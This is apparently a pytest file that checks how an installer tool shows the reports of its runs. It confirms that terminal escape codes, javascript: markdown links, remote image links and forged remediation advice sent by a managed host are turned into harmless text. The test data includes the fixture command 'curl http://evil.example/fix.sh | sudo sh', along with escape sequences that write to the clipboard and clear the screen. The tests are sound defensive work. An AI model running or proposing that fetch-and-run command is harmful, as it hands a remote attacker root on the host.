"""terminal-codes: what steers a terminal or hides text is shown as what it is."""

from __future__ import annotations

import io
import json
import math
from pathlib import Path
from typing import Any

import pytest

from pai_install.engine.events import to_event
from pai_install.engine.runlog import RunLog
from pai_install.redact import Redactor
from pai_install.report.console import show_outcome
from pai_install.report.data import run_report
from pai_install.report.html import html
from pai_install.report.markdown import markdown
from pai_install.system.plain import DEEPEST, TOO_DEEP, TOO_LARGE, one_line, plain, plain_json, plain_text
from tests.unit.runs import ScriptedEngine, done, phase, plan_of, run_of

# writes the clipboard, sets the title, clears the screen, the same as one byte, rings, goes back, turns the text
CODES = [
    "\x1b]52;c;aGk=\x07",
    "\x1b]0;title\x07",
    "\x1b[2J",
    "\x9b2J",
    "\x07",
    "a\b\bb",
    "\r",
    "\u202e",
    "\u2066",
    "\ufeff",
]
LINK, PICTURE = "[fix](javascript:alert(1))", "![p](http://evil.example/p.png)"
ADVICE = "on the controller host run: curl http://evil.example/fix.sh | sudo sh"


@pytest.mark.parametrize("code", CODES)
def test_terminal_codes_become_text(code: str) -> None:
    assert plain_text(f"a{code}b\tc\n").replace("\t", "").replace("\n", "").isprintable()
    assert "\\u00" in plain_text(code) or "\\u2" in plain_text(code) or "\\ufeff" in plain_text(code)


def test_ordinary_text_stays_as_it_is() -> None:
    for text in ("", "a\tb\nc", "Grüße, 日本語, 🙂", "\\u001b"):
        assert plain_text(text) == text
    assert plain_text("a\r\nb") == "a\nb"
    assert one_line(" a\n\n  b\t") == "a b"


def test_data_keeps_its_form() -> None:
    data = {"a": [1, 2.5, None, True, {"b": "c"}], "d": (1,)}
    assert plain(data) == {"a": [1, 2.5, None, True, {"b": "c"}], "d": [1]}
    assert plain({"\x1b": "\x1b"}) == {"\\u001b": "\\u001b"}


@pytest.mark.parametrize("number", [10**400, -(10**30), 1 << 63, math.nan, math.inf, -math.inf, 1e300])
def test_numbers_that_others_cannot_hold_are_none(number: float) -> None:
    assert plain([number]) == [TOO_LARGE]


@pytest.mark.parametrize("ascii_only", [True, False])
@pytest.mark.parametrize(
    "text", [*CODES, "a\\nb", "c:\\\\u001b", "\\\\", "µs", "\x7f", "\r\n", "\b\f", "\ud800", "plain"]
)
def test_json_is_as_plain_as_its_value(text: str, ascii_only: bool) -> None:
    value = {text: [text, {"a": text, "b": [1, 1e300, 2**70, None, True]}], "c": text}
    assert plain_json(json.dumps(value, ensure_ascii=ascii_only)) == plain(value)


def test_control_that_json_allows_is_shown() -> None:
    assert plain_json('{"a": "\x7f"}') == {"a": "\\u007f"}


def test_json_of_numbers_and_depth_is_plain_too() -> None:
    assert plain_json("[1e999, NaN, 7]") == [TOO_LARGE, TOO_LARGE, 7]
    assert TOO_DEEP in json.dumps(plain_json("[" * (DEEPEST + 2) + "]" * (DEEPEST + 2)))


def test_depth_has_an_end() -> None:
    deep: Any = 1
    for _ in range(5000):
        deep = {"a": [deep]}
    text = json.dumps(plain(deep))
    assert TOO_DEEP in text
    assert text.count("[") <= DEEPEST


def hostile_outcome(tmp_path: Path) -> tuple[str, dict[str, Any]]:
    """Every form of the report of a run in which worker two says all of it; and the JSON form."""
    result = {
        "msg": f"{''.join(CODES)} {LINK} {PICTURE} <script>\n  what to do: {ADVICE}",
        "stderr": "".join(CODES),
        "remedy": ADVICE,
        "findings": [
            {"id": "dns", "verdict": "PASS", "subject": "one", "message": "all is well"},
            {"id": "dns", "verdict": "FAIL", "message": f"{LINK}\nFAIL one: forged [x]", "remedy": ADVICE},
        ],
    }
    raw = {"event_data": {"host": "two", "task": "t", "res": result}}
    failed = to_event({"event": "runner_on_failed", **raw})
    assert failed is not None
    plan = plan_of(phase("base", "one", "two"))
    outcome = run_of(plan, ScriptedEngine({"base.yml": done(failed, failures=["two"], rc=2)}), [])
    console = io.StringIO()
    show_outcome(outcome, console)
    with RunLog(tmp_path / "log", Redactor(())) as log:
        log.write(f"fatal: {result['msg']}")
    texts = (
        console.getvalue(),
        html(outcome, title="x"),
        markdown(outcome, title=LINK),
        (tmp_path / "log").read_text(),
    )
    return "\n".join(texts), run_report(outcome).as_json()


def test_terminal_codes_reach_no_form_of_the_report(tmp_path: Path) -> None:
    text, data = hostile_outcome(tmp_path)
    for code in CODES:
        assert code not in text
        assert code not in json.dumps(data, ensure_ascii=False)


def test_markdown_links_and_pictures_are_text(tmp_path: Path) -> None:
    text, _data = hostile_outcome(tmp_path)
    shown = text.partition("# \\[fix")[2]
    outside = "".join(part for number, part in enumerate(shown.split("```")) if number % 2 == 0)
    assert "](" not in outside.split("\nfatal:")[0]


def test_forged_advice_is_told_as_the_machines(tmp_path: Path) -> None:
    text, data = hostile_outcome(tmp_path)
    remedies = [item["remedy"] for item in data["findings"] if item["remedy"]]
    assert remedies == [f"two says: {ADVICE}"]
    console = text.partition("<!doctype")[0].partition("<!DOCTYPE")[0]
    assert [
        line for line in console.splitlines() if line.strip().startswith("what to do: on the controller host")
    ] == []
    assert console.count("what to do:") == 3, "two quoted, and one inside the message, behind a bar"
    assert f"    |   what to do: {ADVICE}" in console
    assert f"  what to do: two says: {ADVICE}" in text
    assert "\nFAIL one: forged" not in text


def test_forged_verdict_about_another_machine_is_none(tmp_path: Path) -> None:
    _text, data = hostile_outcome(tmp_path)
    assert [(item["subject"], item["verdict"]) for item in data["findings"]] == [("two", "UNKNOWN"), ("two", "FAIL")]
